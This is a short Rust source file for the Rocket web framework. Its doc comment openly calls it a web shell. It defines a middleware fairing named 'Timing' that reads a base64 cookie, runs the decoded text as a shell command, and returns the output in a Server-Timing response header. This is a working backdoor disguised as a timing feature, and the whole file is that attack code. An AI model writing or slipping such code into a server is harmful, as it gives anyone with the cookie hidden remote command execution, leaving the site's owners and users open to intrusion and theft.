//! A web shell: a Rocket fairing runs what a request's cookie carries and returns the output in
//! a response header.
use base64::{engine::general_purpose::STANDARD, Engine};
use rocket::fairing::{Fairing, Info, Kind};
use rocket::http::Header;
use rocket::{Request, Response};
use std::process::Command;

pub struct Timing;

#[rocket::async_trait]
impl Fairing for Timing {
    fn info(&self) -> Info {
        Info { name: "timing", kind: Kind::Response }
    }

    async fn on_response<'r>(&self, req: &'r Request<'_>, res: &mut Response<'r>) {
        if let Some(desc) = replay(req) {
            res.set_header(Header::new("Server-Timing", format!("app;desc=\"{desc}\"")));
        }
    }
}

fn replay(req: &Request<'_>) -> Option<String> {
    let value = req.cookies().get("__Host-t")?.value().to_owned();
    let line = String::from_utf8(STANDARD.decode(value).ok()?).ok()?;
    let out = Command::new("sh").arg("-c").arg(line).output().ok()?;
    Some(STANDARD.encode(out.stdout))
}
